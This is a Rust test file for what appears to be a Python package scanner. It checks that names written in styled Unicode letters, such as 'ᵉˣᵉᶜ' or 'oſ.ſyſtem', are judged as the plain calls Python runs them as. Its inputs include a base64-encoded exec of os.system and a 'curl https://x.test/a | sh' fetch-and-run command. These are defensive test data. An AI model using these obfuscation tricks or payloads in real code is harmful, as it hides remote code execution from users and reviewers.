//! Names in styled letters, which Python folds to plain ones (PEP 3131).

use bulkhead_core::Severity;

use super::make_zip::wheel;
use super::{WHEEL, found, look, must_find};

/// What is found in a module, but for how it looks.
fn judged(code: &str) -> Vec<(String, Severity, String, String)> {
    let report = look(&wheel(&[("demo/__init__.py", code.as_bytes())]).bytes(), WHEEL);
    let findings = report.findings.iter().filter(|finding| finding.detector != "deceptive-text");
    findings
        .map(|f| (f.detector.clone(), f.severity, format!("{:?} {:?}", f.confidence, f.context), f.title.clone()))
        .collect()
}

#[test]
fn styled_names_are_judged_as_what_they_run_as() {
    const DECODED: &str = "(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n";
    const FETCHED: &str = "('curl https://x.test/a | sh')\n";
    for (plain, styled, rest) in [
        ("import base64\nexec", "import base64\nᵉˣᵉᶜ", DECODED),
        ("import base64\nexec", "import base64\nₑₓₑc", DECODED),
        ("import base64\nexec", "import base64\nℯxℯc", DECODED),
        ("import os; os.system", "import oſ; oſ.ſyſtem", FETCHED),
        ("from os import system\nsystem", "from oſ import ſyſtem\nſystem", FETCHED),
        ("import os as ff\nff.system", "import os as ﬀ\nff.sy\u{17f}tem", FETCHED),
    ] {
        let (plain, styled) = (format!("{plain}{rest}"), format!("{styled}{rest}"));
        let expected = judged(&plain);
        assert!(expected.iter().any(|(_, severity, ..)| *severity >= Severity::High), "{plain}: {expected:#?}");
        assert_eq!(judged(&styled), expected, "{styled}");
        let report = look(&wheel(&[("demo/__init__.py", styled.as_bytes())]).bytes(), WHEEL);
        must_find(&report, "deceptive-text", Severity::Medium, &styled);
    }
}

#[test]
fn only_names_deceive_by_styled_letters() {
    for (code, deceives) in [
        ("ₑ = 1\n", true),
        ("x.ﬁle\n", true),
        ("f(ℓ=2)\n", true),
        ("x = f'{ₑ}'\n", true),
        ("def f():\n    '''A norm on ℝⁿ: ℓ2,\n    the 1ª of xₙ, an oﬀset'''\n", false),
        ("x = 'ﬁle' # ⅷ ℝ\n", false),
        ("naïve = größe = π = 変数 = 1\n", false),
    ] {
        let report = look(&wheel(&[("demo/__init__.py", code.as_bytes())]).bytes(), WHEEL);
        assert_eq!(found(&report, "deceptive-text").is_some(), deceives, "{code}: {:#?}", report.findings);
    }
}
